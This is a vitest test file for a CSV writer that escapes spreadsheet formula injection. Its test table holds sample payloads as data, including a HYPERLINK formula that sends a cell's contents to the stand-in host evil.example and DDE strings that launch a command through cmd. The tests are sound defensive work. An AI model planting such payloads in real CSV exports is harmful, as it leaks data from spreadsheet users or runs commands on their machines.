import { describe, expect, it } from 'vitest'
import { csvCell, csvRow } from './csv'

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('writes %j as text a spreadsheet does not evaluate', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  it('leaves plain values and plain numbers alone, quotes what needs quoting, and writes null as empty', () => {
    expect(csvCell('orders')).toBe('orders')
    expect(csvCell('-42')).toBe('-42')
    expect(csvCell('+1.5')).toBe('+1.5')
    expect(csvCell('-1e5')).toBe('-1e5')
    expect(csvCell('a,b')).toBe('"a,b"')
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell('')).toBe('')
    expect(csvCell(null)).toBe('')
    // Only the start of a value makes a formula.
    expect(csvCell('a=b')).toBe('a=b')
  })

  it('joins a row and ends it with a line break', () => {
    expect(csvRow(['orders', '7', 'total', 'not a number', '=1+1'])).toBe(`orders,7,total,not a number,"'=1+1"\n`)
  })
})
